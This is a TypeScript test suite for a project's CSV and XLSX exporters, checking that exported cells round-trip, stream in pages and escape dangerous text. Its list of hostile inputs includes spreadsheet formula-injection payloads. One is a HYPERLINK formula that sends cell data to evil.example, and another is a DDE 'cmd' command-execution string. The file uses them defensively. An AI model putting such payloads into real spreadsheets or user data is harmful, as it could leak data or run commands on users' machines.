import { Readable } from 'node:stream';
import fc from 'fast-check';
import { readSheet } from 'read-excel-file/node';
import { describe, expect, test } from 'vitest';
import type { Cell, ExportFormat, Row } from '../../src/exports/export-format.ts';
import { exportFormats } from '../../src/exports/formats/index.ts';
import { parseCsv } from '../support/parse-csv.ts';

type Table = readonly (readonly (string | undefined)[])[];

/** Reads a file back with a reader that we have not written along with the writer; an empty cell is undefined. */
const readers: Readonly<Record<string, (bytes: Buffer) => Promise<Table>>> = {
  csv: async (bytes) => {
    const text = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(bytes);
    if (!text.startsWith('\uFEFF')) throw new Error('there is no byte order mark');
    return parseCsv(text.slice(1)).map((record) => record.map((field) => field || undefined));
  },
  xlsx: async (bytes) =>
    (await readSheet(Readable.from([bytes]), { trim: false })).map((row) =>
      row.map((cell) => (cell === null ? undefined : String(cell))),
    ),
};

/** How a text reads in a file of the format when it is not what was written. */
const spelled: Readonly<Record<string, (text: string) => string>> = {
  csv: (text) => (/^[=+\-@\t\r\n]/.test(text) ? `'${text}` : text).toWellFormed(),
  // biome-ignore lint/suspicious/noControlCharactersInRegex: what XML cannot hold
  xlsx: (text) => text.toWellFormed().replace(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]/g, '\uFFFD'),
};

const hostile = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '=HYPERLINK("http://evil.example/?"&A1)',
  "=cmd|' /C calc'!A0",
  'a,b;c',
  'say "hi"',
  '"',
  '""',
  'two\nlines',
  'two\r\nlines',
  'bare\rreturn',
  ' blanks around ',
  '</t></is></c><c r="Z9"><f>1+1</f></c>',
  '&amp;<![CDATA[x]]>',
  '_x0041_ _x000D_ __x0041__',
  'Ünïcode 漢字 😀 \u202Ereversed',
  'null\0 bell\u0007 escape\u001B',
  'lone \uD800 surrogate',
  '\uFFFE\uFFFF',
  "'quoted",
  'a'.repeat(32_767),
];

async function* once(...pages: readonly (readonly Row[])[]): AsyncGenerator<readonly Row[]> {
  yield* pages;
}

async function write(format: ExportFormat, header: readonly string[], pages: AsyncIterable<readonly Row[]>) {
  const parts: Uint8Array[] = [];
  for await (const part of format.write(header, pages)) parts.push(part);
  return Buffer.concat(parts);
}

test('every format has a reader here', () => {
  expect(Object.keys(readers)).toEqual(exportFormats.map(({ name }) => name));
});

describe.each(exportFormats.map((format): [string, ExportFormat] => [format.name, format]))(
  'the export format %s',
  (name, format) => {
    const read = async (bytes: Buffer): Promise<Table> => (await readers[name]?.(bytes)) ?? [];
    const expected = (text: string) => spelled[name]?.(text);

    test.each(hostile.map((text) => [JSON.stringify(text).slice(0, 60), text] as const))(
      'the text %s comes back as text, harmless',
      async (_, text) => {
        const table = await read(await write(format, ['before', 'text', 'after'], once([['x', text, 'y']])));

        expect(table).toEqual([
          ['before', 'text', 'after'],
          ['x', expected(text), 'y'],
        ]);
      },
    );

    test('numbers, truths and unknowns are told apart: an unknown is an empty cell, zero is zero', async () => {
      const row: Row = [0, 12.5, 9_007_199_254_740_991, true, false, undefined, '', 'end'];

      const table = await read(await write(format, ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h'], once([row])));

      expect(table[1]).toEqual(['0', '12.5', '9007199254740991', 'true', 'false', undefined, undefined, 'end']);
    });

    test('a table without rows is its header, and pages without rows do no harm', async () => {
      expect(await read(await write(format, ['Id', 'Name'], once()))).toEqual([['Id', 'Name']]);
      expect(await read(await write(format, ['Id', 'Name'], once([], [[1, 'a']], [], [[2, 'b']], [])))).toEqual([
        ['Id', 'Name'],
        ['1', 'a'],
        ['2', 'b'],
      ]);
    });

    test('a column beyond Z is where it belongs', async () => {
      const header = Array.from({ length: 60 }, (_, i) => `c${i}`);
      const row = header.map((_, i) => (i % 7 === 0 ? undefined : i));

      const table = await read(await write(format, header, once([row])));

      expect(table).toEqual([header, row.map((cell) => (cell === undefined ? undefined : String(cell)))]);
    });

    test('any texts come back as they were', async () => {
      const text = fc.oneof(fc.string({ unit: 'binary', maxLength: 30 }), fc.constantFrom(...hostile.slice(0, -1)));
      const rows = fc.array(fc.tuple(text, text, text), { maxLength: 5 });
      await fc.assert(
        fc.asyncProperty(rows, async (written) => {
          // The marks on both sides keep readers from leaving out empty rows and columns.
          const marked = written.map((row): Row => ['<', ...row, '>']);

          const table = await read(await write(format, ['a', 'b', 'c', 'd', 'e'], once(marked)));

          expect(table.slice(1)).toEqual(
            written.map((row) => ['<', ...row.map((each) => expected(each) || undefined), '>']),
          );
        }),
        { numRuns: 100 },
      );
    });

    test('the same rows give the same bytes', async () => {
      const rows = (): AsyncGenerator<readonly Row[]> => once([['a', 1]], [['b', 2]]);

      expect(await write(format, ['x', 'y'], rows())).toEqual(await write(format, ['x', 'y'], rows()));
    });

    test('100,000 rows pass in pieces: hardly a page is read before the reader of the file wants it', async () => {
      const ROWS = 100_000;
      const PAGE = 500;
      let pulled = 0;
      let ahead = 0;
      let bytes = 0;
      // Texts that do not compress away: what is held back must show.
      const text = (n: number) => (Math.imul(n, 2_654_435_761) >>> 0).toString(36).repeat(8);
      async function* pages(): AsyncGenerator<readonly Row[]> {
        for (let at = 0; at < ROWS; at += PAGE) {
          pulled += PAGE;
          yield Array.from({ length: PAGE }, (_, i) => [at + i, text(at + i), text(at - i), true]);
        }
      }

      let pulledBefore = 0;
      for await (const piece of format.write(['n', 'a', 'b', 'c'], pages())) {
        bytes += piece.byteLength;
        ahead = Math.max(ahead, pulled - pulledBefore);
        pulledBefore = pulled;
      }

      expect(pulled).toBe(ROWS);
      expect(bytes).toBeGreaterThan(1024 ** 2);
      // Between two pieces of the file at most so many rows are read: compressors hold some back.
      expect(ahead).toBeLessThanOrEqual(20 * PAGE);
    });

    test('who stops reading stops the pages, too', async () => {
      let ended = false;
      async function* endless(): AsyncGenerator<readonly Row[]> {
        try {
          for (let i = 0; ; i++) yield [[i, `row ${(Math.imul(i, 2_654_435_761) >>> 0).toString(36).repeat(200)}`]];
        } finally {
          ended = true;
        }
      }

      let pieces = 0;
      for await (const _ of format.write(['n', 'text'], endless())) if (++pieces === 20) break;

      await expect.poll(() => ended).toBe(true);
    });

    test('a failure of the pages is the failure of the file', async () => {
      async function* failing(): AsyncGenerator<readonly Row[]> {
        yield [['a']];
        throw new Error('the database is gone');
      }

      await expect(write(format, ['x'], failing())).rejects.toThrow('the database is gone');
    });

    test('names itself for files and browsers', () => {
      expect(format.name).toMatch(/^[a-z]{2,8}$/);
      expect(format.contentType).toMatch(/^[\w/.+-]+(?:; charset=utf-8)?$/);
      expect(format.description.length).toBeGreaterThan(20);
    });
  },
);

test('a text that is too long for a cell of Excel is cut, visibly', async () => {
  const [, xlsx] = exportFormats;
  const cell: Cell = `${'a'.repeat(32_765)}😀😀`;

  const table = await readers.xlsx?.(await write(xlsx, ['text'], once([[cell]])));

  expect(table?.[1]?.[0]).toMatch(/^a{32765}\uFFFD?…$/);
});
